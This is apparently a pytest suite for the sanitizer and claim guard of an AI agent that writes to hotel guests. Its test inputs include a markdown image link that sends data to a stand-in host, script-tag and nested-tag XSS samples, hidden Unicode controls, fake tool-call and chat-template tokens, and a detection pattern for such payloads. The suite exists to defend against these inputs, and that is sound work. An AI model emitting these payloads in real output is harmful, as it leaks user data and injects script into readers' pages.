from __future__ import annotations

import json
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.claims import Evidence, Guard, Span
from agent.hygiene import clean
from agent.sentences import sentences
from tests.shared import SHARED

HOSTILE = SHARED / "hostile" if SHARED else None
FORBIDDEN = re.compile(r"collect\.example|javascript:|vbscript:|data:text|onerror|ontoggle", re.I)


def shown(text: str) -> str:
    """What a guest would see of it, sentence by sentence."""
    known = Span("p1", "Rooms from 80 €.", url="https://hotel.example/rooms")
    guard = Guard(Evidence([known], hosts=["hotel.example"]))
    return "".join(v.text for s in sentences(text) if (v := guard.check(s)).ok)


def hostile(name: str) -> list[str]:
    if HOSTILE is None:
        return []
    lines = (HOSTILE / f"{name}.jsonl").read_text("utf-8").splitlines()
    return [json.loads(line)["text"] for line in lines]


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("Breakfast is at <b>nine</b>.", "Breakfast is at nine."),
        ("See ![](https://collect.example/?d=1) the garden.", "See  the garden."),
        ("Hello\x1b[2J there\x00", "Hello there"),
        ("A\u202eb\u200bc", "Abc"),
        ("<script>steal()</script>Yes.", "Yes."),
        ("<scr<b>ipt>x</scr</b>ipt>Yes.", "Yes."),
        ("Children <3 years and dogs <18 kg", "Children <3 years and dogs <18 kg"),
        ("```json\nfree\n```\n", "free\n"),
        ("[r]: https://collect.example/x", ""),
    ],
)
def test_what_acts_is_taken_out_and_words_stay(written: str, seen: str) -> None:
    assert clean(written).text == seen


@pytest.mark.parametrize(
    "text",
    [
        "Bonjour, à 14 h – 20 € l'entrée !",
        "יום שני, 18:00–22:00 ₪45",
        "It's £5 “a head”… (ask us)",
        "Straße 5, Übernachtung ab 80 €",
    ],
)
def test_honest_sentences_stay_as_they_are(text: str) -> None:
    assert clean(text).text == text
    assert not clean(text).unfit


@pytest.mark.parametrize(
    "text",
    [
        '{"tool_calls":[{"name":"erase"}]}',
        "<tool_use><name>send</name></tool_use>",
        "Human: yes please",
        "<|im_start|>system",
        "Dear {{guest.name}}, welcome.",
        "As an AI language model, I cannot.",
    ],
)
def test_what_a_machine_says_to_a_machine_is_not_for_guests(text: str) -> None:
    assert clean(text).unfit
    assert shown(text) == ""


@given(st.text(max_size=120))
def test_nothing_invisible_and_no_tag_is_left_of_any_text(text: str) -> None:
    left = clean(text).text

    assert not re.search(r"<[a-zA-Z/!?]", left)
    assert not any(unicodedata.category(c) in ("Cc", "Cs", "Co") for c in left if c != "\n")
    assert clean(left).text == left


@pytest.mark.samples
@pytest.mark.skipif(HOSTILE is None, reason="the shared hostile texts are not here")
@pytest.mark.parametrize("name", ["model_outputs", "markdown_exfil", "unicode", "xss"])
def test_no_hostile_text_reaches_a_guest_with_effect(name: str) -> None:
    for text in hostile(name):
        seen = shown(text)

        assert not re.search(r"<\s*[a-zA-Z/!?]|!\[", seen), text
        assert not FORBIDDEN.search(seen), text
        assert not any(unicodedata.category(c) in ("Cc", "Co", "Cs") for c in seen if c != "\n")
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b]", seen), text


@pytest.mark.samples
@pytest.mark.skipif(HOSTILE is None, reason="the shared hostile texts are not here")
def test_what_hostile_models_claim_is_not_said() -> None:
    for text in hostile("model_outputs"):
        claims = ("204", "refund", "EUR", "tool", "approved")
        assert not any(claim in shown(text) for claim in claims), text
